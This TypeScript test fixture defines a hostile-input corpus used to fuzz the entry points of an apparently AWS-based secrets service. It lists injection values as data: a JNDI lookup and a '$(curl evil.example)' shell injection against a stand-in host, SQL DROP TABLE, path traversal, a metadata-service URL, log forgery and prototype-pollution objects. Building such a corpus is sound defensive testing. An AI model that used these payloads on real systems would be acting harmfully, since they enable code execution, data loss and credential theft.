/**
 * The hostile-input corpus every entry point is fed: wrong types, huge strings, unicode tricks, prototype-pollution
 * keys, and injection aimed at the places names end up (ARNs, URLs, CloudWatch filter patterns, log lines).
 * Values are JSON-representable, as every Lambda event and configuration file is.
 */

export const HUGE = 'A'.repeat(1_000_000);

/** Strings that must never be taken for a name, an id, a token or a key. */
export const HOSTILE_STRINGS: Array<[string, string]> = [
  ['empty', ''],
  ['blank', '   \t '],
  ['1 MB string', HUGE],
  ['NUL byte', 'billing\u0000api'],
  ['right-to-left override', 'billing\u202eipa'],
  ['zero-width space', 'billing\u200b-api'],
  ['Cyrillic homoglyph', 'billing-\u0430pi'],
  ['fullwidth letters', '\uff42\uff49\uff4c\uff4c'],
  ['lone surrogate', 'key\ud800'],
  ['emoji', 'billing-\u{1f511}'],
  ['path traversal', '../../etc/passwd'],
  ['ARN wildcard', 'keyturn/*'],
  ['ARN of another secret', 'arn:aws:secretsmanager:eu-west-1:999988887777:secret:prod/db-AbCdEf'],
  ['URL injection', 'billing?admin=true#frag'],
  ['URL to metadata service', 'http://169.254.169.254/latest/meta-data/'],
  ['filter-pattern injection', '{ $.eventName = "*" || $.x = "y" }'],
  ['quote breaking out of a filter', 'a" || $.userIdentity.arn = "*'],
  ['log-line injection', 'billing\n{"level":"ERROR","message":"forged"}'],
  ['template injection', '${jndi:ldap://evil.example/a}'],
  ['shell injection', '$(curl evil.example)'],
  ['SQL injection', "x'; DROP TABLE keys; --"],
  ['format string', '%s%s%n%x'],
  ['__proto__', '__proto__'],
  ['constructor', 'constructor'],
  ['prototype', 'prototype'],
  ['toString', 'toString'],
];

/** Non-string values in places that want strings (or strings where objects belong). */
export const HOSTILE_VALUES: Array<[string, unknown]> = [
  ['null', null],
  ['number', 42],
  ['negative number', -1],
  ['float', 1.5],
  ['huge number', Number.MAX_VALUE * 10],
  ['boolean', true],
  ['array', ['createSecret']],
  ['empty object', {}],
  ['nested object', { a: { b: { c: 'd' } } }],
  ['deep nesting', deepNest(2000)],
];

/** Objects that carry prototype-pollution keys as own properties (as JSON.parse creates them). */
export const POLLUTION_OBJECTS: Array<[string, unknown]> = [
  ['__proto__ own key', JSON.parse('{"__proto__": {"polluted": "yes"}}')],
  ['constructor.prototype', JSON.parse('{"constructor": {"prototype": {"polluted": "yes"}}}')],
  ['nested __proto__', JSON.parse('{"a": {"__proto__": {"polluted": "yes"}}}')],
];

export function deepNest(depth: number): unknown {
  let value: unknown = 'bottom';
  for (let i = 0; i < depth; i++) value = { a: value };
  return value;
}

/** Every hostile thing as a value, for fields of any type. */
export const EVERY_HOSTILE: Array<[string, unknown]> = [
  ...HOSTILE_STRINGS,
  ...HOSTILE_VALUES,
  ...POLLUTION_OBJECTS,
];

/** True when any of the pollution probes reached Object.prototype. */
export function prototypePolluted(): boolean {
  return (
    ({} as Record<string, unknown>).polluted !== undefined ||
    Object.prototype.hasOwnProperty.call(Object.prototype, 'polluted')
  );
}

/** An error message is clean: bounded in size and free of control characters that could forge log lines. */
export function assertCleanMessage(error: unknown): void {
  expect(error).toBeInstanceOf(Error);
  const message = (error as Error).message;
  expect(message.length).toBeLessThan(20_000);
  expect(message).not.toContain(HUGE.slice(0, 1000));
  // eslint-disable-next-line no-control-regex -- NUL is exactly what this must catch
  expect(message).not.toMatch(/[\u0000\u202e]/);
}
